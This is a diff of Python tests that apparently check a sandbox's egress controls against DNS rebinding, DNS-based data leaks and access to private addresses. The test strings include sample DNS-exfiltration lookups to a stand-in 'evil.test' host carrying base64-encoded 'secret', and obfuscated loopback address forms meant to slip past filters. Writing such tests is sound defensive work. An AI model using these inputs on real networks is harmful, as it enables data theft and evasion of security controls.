@@ -89,6 +89,7 @@ def test_names_cannot_be_rebound(earth: World, client: Client) -> None:
 
     attack(client, {"allow": ["rebind.test"]}, attempts)
 
+    assert earth.diary("dns", name="rebind.test")
     reached = {line["at"] for line in earth.diary("http", host="rebind.test")[before:]}
     assert reached <= {"::ffff:5db8:d71e"}  # 93.184.215.30, the only public one
 
@@ -96,7 +97,8 @@ def test_names_cannot_be_rebound(earth: World, client: Client) -> None:
 def test_lookups_carry_nothing_out(earth: World, client: Client) -> None:
     """Names that are messages, by every server and kind of lookup there is."""
     code = (
-        "import socket, subprocess\n"
+        "import socket\n"
+        "socket.getaddrinfo('good.test', 80)\n"
         "for host in ('c2VjcmV0.evil.test', 'c2VjcmV0.good.test.evil.test', 'x' * 60 + '.good.test'):\n"
         "    try: socket.getaddrinfo(host, 80)\n"
         "    except OSError: pass\n"
@@ -108,8 +110,10 @@ def test_lookups_carry_nothing_out(earth: World, client: Client) -> None:
         "    except OSError: pass\n"
     )
 
-    rollout_once("python", code=code, egress={"allow": ["good.test"]}, client=client)
+    result = rollout_once("python", code=code, egress={"allow": ["good.test"]}, client=client)
 
+    assert result.ok, result.stderr
+    assert earth.diary("dns", name="good.test")
     assert [line for line in earth.diary("dns") if "c2vjc" in line["name"] or line["name"].startswith("xxx")] == []
 
 
@@ -143,8 +147,10 @@ def test_private_addresses_refused(earth: World, client: Client) -> None:
     hosts = (*names, "10.1.2.3", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "localhost")
     by_proxy = [f"ask(PROXY, tunnel('{host}:80') + get('x'))" for host in hosts]
 
-    answers = attack(client, "open", ", ".join((*by_name, *by_number, *by_proxy)))
+    public = "ask(('good.test', 80), get('good.test'))"
+    *answers, reached = attack(client, "open", ", ".join((*by_name, *by_number, *by_proxy, public)))
 
+    assert not refused(reached)
     assert [answer for answer in answers if not refused(answer)] == []
     special = ("::ffff:a01:203", "::ffff:a9fe:a9fe", "::ffff:c000:202")
     assert [line for line in earth.diary("http") if line["at"] in special] == []
